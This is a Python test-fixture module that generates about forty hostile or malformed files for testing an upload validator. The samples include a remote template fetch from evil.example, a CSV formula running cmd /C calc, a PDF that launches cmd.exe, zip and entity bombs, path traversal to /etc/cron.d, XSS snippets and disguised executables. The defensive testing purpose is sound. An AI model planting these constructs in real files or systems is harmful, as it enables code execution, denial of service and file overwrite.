"""Forty files that somebody means ill with, or that went wrong on their way: name -> content, made when asked for."""

import struct
import zlib
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from tests.factories.files import docx, office, pdf, xlsx

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
MEGABYTE = 1024 * 1024
ENCRYPT = (
    "/Encrypt << /Filter /Standard /V 1 /R 2 /O ({0}) /U ({0}) /P -4 >> /ID [(0123456789abcdef) (0123456789abcdef)]"
)
SCRIPT = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
TEMPLATE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"'
    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    ' Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)


def zipped(parts: dict[str, bytes]) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def encrypted_zip() -> bytes:
    """The flag of encryption set in each header."""
    content = bytearray(docx("x"))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + place] |= 1
            at = content.find(mark, at + 4)
    return bytes(content)


def lying_zip() -> bytes:
    """Says of a part that it is small, and unpacks to fifty megabytes."""
    content = docx("x", parts={"word/media/image1.bin": bytes(50 * MEGABYTE)})
    return content.replace(struct.pack("<L", 50 * MEGABYTE), struct.pack("<L", 1000))


def png(width: int, height: int) -> bytes:
    """The head of a picture of this size, and next to nothing of it."""
    head = struct.pack(">LLBBBBB", width, height, 8, 6, 0, 0, 0)

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(100))) + chunk(b"IEND", b"")


def entities() -> str:
    """A billion laughs."""
    levels = "".join(f'<!ENTITY e{level} "{f"&e{level - 1};" * 10}">' for level in range(1, 10))
    return f'<!DOCTYPE x [<!ENTITY e0 "ha">{levels}]><x>&e9;</x>'


def workbook(**parts: bytes) -> bytes:
    """A workbook with parts besides, named as keywords with / written __ and . written _dot_."""
    named = {name.replace("__", "/").replace("_dot_", "."): content for name, content in parts.items()}
    return office({"xl/workbook.xml": "<workbook/>", **named}, "xl/workbook.xml")


MATERIALS: dict[str, Callable[[], bytes]] = {
    "macro.docm": lambda: docx("x"),
    "macro.xlsm": xlsx,
    "macro.pptm": lambda: docx("x"),
    "macro.docx": lambda: docx("x", parts={"word/vbaProject.bin": OLE}),
    "macro-by-type.docx": lambda: docx("x", types=SCRIPT.replace("vbaProject", "macroEnabled.12")),
    "macro-capitals.docx": lambda: docx("x", parts={"word/VBAPROJECT.BIN": OLE}),
    "macro-sheet.xlsx": lambda: workbook(xl__macrosheets__sheet1_dot_xml=b"<x/>"),
    "active-x.docx": lambda: docx("x", parts={"word/activeX/activeX1.bin": OLE}),
    "template.docx": lambda: docx("x", parts={"word/_rels/settings.xml.rels": TEMPLATE}),
    "packed-program.docx": lambda: docx(
        "x", parts={"word/embeddings/oleObject1.bin": OLE + "Ole10Native".encode("utf-16-le") + b"MZ"}
    ),
    "custom-ribbon.xlsx": lambda: workbook(customUI__customUI_dot_xml=b"<x/>"),
    "password.pdf": lambda: pdf("x", trailer=ENCRYPT),
    "password.docx": lambda: OLE,
    "password.xlsx": encrypted_zip,
    "old.docx": lambda: OLE + b"Word.Document.8",
    "picture.svg": lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "page.html": lambda: b"<script>alert(1)</script>",
    "page.pdf": lambda: b"<html><script>alert(1)</script>",
    "page.csv": lambda: b"<html><script>alert(1)</script>",
    "bomb.docx": lambda: docx("x", parts={"word/media/image1.bin": bytes(600 * MEGABYTE)}),
    "bomb-of-many.docx": lambda: docx("x", parts={f"word/{number}.xml": "x" for number in range(5_100)}),
    "bomb-in-sheet.xlsx": lambda: workbook(xl__worksheets__sheet1_dot_xml=b"<c/>" * (20 * MEGABYTE)),
    "lying.docx": lying_zip,
    "laughs.docx": lambda: office({"word/document.xml": entities()}, "word/document.xml"),
    "program.pdf": lambda: b"MZ\x90\x00" + bytes(500),
    "program.csv": lambda: b"MZ\x90\x00" + bytes(500),
    "zip.docx": lambda: zipped({"readme.txt": b"x"}),
    "sheet.docx": xlsx,
    "document.xlsx": lambda: docx("x"),
    "climbing.docx": lambda: docx("x", parts={"../../etc/cron.d/x": "x"}),
    "cut-short.docx": lambda: docx("x")[:-40],
    "cut-short.pdf": lambda: b"%PDF-1.7\n1 0 obj <<",
    "noise.pdf": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 4000,
    "script.pdf": lambda: pdf("x", catalog="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    "launch.pdf": lambda: pdf("x", catalog="/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "formula.csv": lambda: "名称,値\n\"=cmd|' /C calc'!A0\",1\n".encode(),
    "invoice.exe.pdf": lambda: pdf("x"),
    "report.pdf.docx": lambda: docx("x"),
    "harm\u202efdp.exe": lambda: b"MZ",
    "empty.pdf": lambda: b"",
}
PICTURES: dict[str, Callable[[], bytes]] = {
    "bomb.png": lambda: png(60_000, 60_000),
    "wide.png": lambda: png(2_000_000, 30),
    "svg.png": lambda: b"<svg/>",
    "png.jpg": lambda: png(10, 10),
}
